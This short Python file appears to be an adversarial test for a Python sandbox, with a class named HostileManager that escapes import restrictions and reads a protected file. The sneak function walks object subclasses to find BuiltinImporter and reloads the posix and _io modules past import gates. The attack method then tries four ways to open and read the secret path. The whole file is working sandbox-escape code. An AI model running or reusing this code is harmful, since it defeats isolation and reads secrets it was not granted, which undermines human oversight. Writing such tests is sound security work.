"""Reads a file outside with the built-in module of the system, past every gate on imports.

Control: secret, each turn.
"""

TURNS = 4


def sneak(name):
    """Return a built-in module, made anew, past every gate on imports."""
    todo, seen = [object], {object}
    while todo:
        kind = todo.pop()
        if kind.__name__ == "BuiltinImporter":
            loaded = kind.load_module.__func__.__globals__["sys"].modules
            kept = loaded.pop(name, None)
            try:
                return kind.load_module(name)
            finally:
                if kept is not None:
                    loaded[name] = kept
        todo += [one for one in type.__subclasses__(kind) if one not in seen]
        seen.update(type.__subclasses__(kind))


class HostileManager:
    def attack(self, *, secret_path, turn):
        posix = sneak("posix")
        folder, _, name = secret_path.rpartition("/")
        attempts = [
            lambda: posix.open(secret_path, posix.O_RDONLY),
            lambda: posix.open(name, 0, dir_fd=posix.open(folder, posix.O_PATH)),
            lambda: self.keep(sneak("_io").open(secret_path, "rb", 0)),
            lambda: self.keep(sneak("_io").FileIO(secret_path)),
        ]
        return posix.pread(attempts[turn](), 100, 0).decode(errors="replace")

    def keep(self, file):
        self.file = file
        return file.fileno()
